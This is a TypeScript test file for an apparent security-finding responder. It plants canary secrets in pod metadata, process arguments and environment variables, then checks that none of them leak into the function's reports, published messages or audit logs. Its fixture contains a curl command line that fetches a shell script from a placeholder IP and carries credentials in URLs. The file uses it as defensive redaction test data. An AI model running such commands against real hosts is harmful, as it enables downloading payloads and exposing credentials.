// Canaries: secrets planted everywhere an attacker or a careless deployer can put them (pod
// annotations incl. last-applied-configuration, process arguments after secret flags and in
// URLs, the process environment, secret-looking labels), then one full run of the function
// against the fakes; report.json, report.md, the published message and every audit line are
// searched for every canary. Controls show the planted data did flow through the run (the
// pod was read, an allowlisted annotation and the plain arguments are in the report).
import assert from 'node:assert/strict';
import type { Server } from 'node:http';
import { after, before, describe, test } from 'node:test';
import { getTestServer } from '@google-cloud/functions-framework/testing';
import { configureResponder, FUNCTION_NAME } from '../../functions/scc-responder/index.js';
import { captureAudit } from '../support/audit-capture.js';
import { fixture, postStructured, structuredEvent, listenOnLoopback } from '../support/cloudevents.js';
import { DEPLOY_POD, NS } from '../support/fake-kube-world.js';
import { BUCKET, startStack, type Stack } from '../support/stack.js';

const CANARIES = {
  annotationLastApplied: 'CANARYannotLastApplied01',
  annotationCustom: 'CANARYannotCustom02',
  argAttached: 'CANARYargAttached03',
  argAuth: 'CANARYargAuth04',
  argUser: 'CANARYargUser05',
  urlQuery: 'CANARYurlQuery06',
  urlUserinfo: 'CANARYurlUserinfo07',
  env: 'CANARYenvValue08',
  envPlain: 'CANARYenvPlain09',
  labelFinding: 'CANARYlabelFinding10',
  labelPod: 'CANARYlabelPod11',
};

let stack: Stack;
let server: Server;
let url: string;
const audit = captureAudit();
let findingName: string;
let reportJson: string;
let reportMd: string;
let published: { data: string; attributes: Record<string, string> };

before(async () => {
  stack = await startStack();
  const pod = stack.world.kube.pod(NS, DEPLOY_POD);
  assert.ok(pod);
  pod.annotations = {
    ...pod.annotations,
    'kubectl.kubernetes.io/last-applied-configuration': JSON.stringify({ spec: { containers: [{ env: [{ name: 'DB_PASSWORD', value: CANARIES.annotationLastApplied }] }] } }),
    'acme.example/notes': `rotate ${CANARIES.annotationCustom} next week`,
    'kubectl.kubernetes.io/default-container': 'checkout',
  };
  pod.labels = { ...pod.labels, 'session-token': CANARIES.labelPod };

  const n = structuredClone(fixture('modified-malicious-binary.v1.json')) as {
    finding: { name: string; eventTime: string; processes: { args: string[]; envVariables: { name: string; val: string }[] }[]; kubernetes: { pods: { labels: { name: string; value: string }[] }[] } };
  };
  n.finding.name = n.finding.name.replace(/[^/]+$/, 'canary1');
  n.finding.eventTime = new Date().toISOString();
  const p = n.finding.processes[0]!;
  p.args = ['/usr/bin/curl', `-p${CANARIES.argAttached}`, '--auth', CANARIES.argAuth, '-u', `admin:${CANARIES.argUser}`, `http://203.0.113.50/x.sh?pw=${CANARIES.urlQuery}`, `https://bob:${CANARIES.urlUserinfo}@203.0.113.51/y`];
  p.envVariables = [{ name: 'DB_PASSWORD', val: CANARIES.env }, { name: 'HOME', val: CANARIES.envPlain }];
  n.finding.kubernetes.pods[0]!.labels.push({ name: 'api-token', value: CANARIES.labelFinding });
  stack.known(n);
  findingName = n.finding.name;

  configureResponder({ env: stack.env(), auditDestination: audit.destination });
  server = getTestServer(FUNCTION_NAME);
  url = await listenOnLoopback(server);
  const res = await postStructured(url, structuredEvent(n));
  assert.equal(res.status, 204, audit.lines.slice(-3).join('\n'));

  const object = (suffix: string): string => {
    const o = stack.gcs.objects(BUCKET).find((x) => x.name.includes('canary1') && x.name.endsWith(suffix));
    assert.ok(o, `${suffix} stored`);
    return o.name;
  };
  reportJson = (await stack.gcs.read(BUCKET, object('report.json'))).toString();
  reportMd = (await stack.gcs.read(BUCKET, object('report.md'))).toString();
  const m = stack.pubsub.messages.find((x) => x.orderingKey === findingName);
  assert.ok(m, 'a result was published');
  published = { data: m.data.toString(), attributes: m.attributes };
});
after(async () => {
  server.close();
  configureResponder(undefined);
  await stack.close();
});

describe('no canary reaches an output', () => {
  const outputs = (): [string, string][] => [
    ['report.json', reportJson],
    ['report.md', reportMd],
    ['published message', `${published.data}\n${JSON.stringify(published.attributes)}`],
    ...audit.lines.map((l, i): [string, string] => [`audit line ${i}`, l]),
  ];
  for (const [name, canary] of Object.entries(CANARIES)) {
    test(`${name} appears in no output`, () => {
      for (const [where, text] of outputs()) assert.ok(!text.includes(canary), `${canary} in ${where}`);
    });
  }

  test('controls: the pod was read, allowlisted annotations and plain arguments did flow through', () => {
    const report = JSON.parse(reportJson) as { enrichment?: { pod?: { annotations: Record<string, string>; labels: Record<string, string> } }; incident: { args: string[] } };
    assert.equal(report.enrichment?.pod?.annotations['kubectl.kubernetes.io/default-container'], 'checkout');
    assert.equal(report.enrichment?.pod?.annotations['kubectl.kubernetes.io/last-applied-configuration'], undefined);
    assert.ok('session-token' in (report.enrichment?.pod?.labels ?? {}), 'the label key is kept, its value redacted');
    assert.ok(report.incident.args.includes('/usr/bin/curl'));
    assert.ok(report.incident.args.some((a) => a.startsWith('http://203.0.113.50/x.sh?pw=')));
    assert.ok(audit.lines.length >= 10, `${audit.lines.length} audit lines`);
  });

  test('the published message is a summary: no arguments unless the policy asks', () => {
    const payload = JSON.parse(published.data) as { schema: string; finding: Record<string, unknown>; incident?: unknown };
    assert.equal(payload.schema, 'scc-responder.triage-summary.v1');
    assert.equal(payload.finding['args'], undefined);
    assert.equal(payload.finding['argsCount'], 8);
    assert.equal(payload.incident, undefined, 'not the whole report');
  });
});
